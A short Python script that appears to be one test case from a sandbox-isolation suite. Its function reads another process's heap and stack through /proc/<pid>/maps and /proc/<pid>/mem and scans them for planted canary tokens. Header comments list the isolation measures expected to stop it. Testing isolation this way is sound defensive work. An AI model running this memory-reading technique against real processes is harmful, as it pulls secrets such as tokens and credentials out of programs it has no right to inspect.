# does: reads the memory of the orchestrator's process as a file
# stopped by: a process table of its own (A); no `/proc` (B)
# profiles: A B
# off: leaked
import os
import re
from kit import parts, say, stay


def attack():
    place = f"/proc/{os.environ['PLANT_PID']}"
    with open(f"{place}/maps") as maps, open(f"{place}/mem", "rb", 0) as memory:
        for line in maps:
            if "[heap]" in line or "[stack]" in line:
                low, high = (int(part, 16) for part in line.split()[0].split("-"))
                memory.seek(low)
                say(*re.findall(rb"canary[0-9a-f]{24}", memory.read(high - low)))


parts(attack, plant=stay)
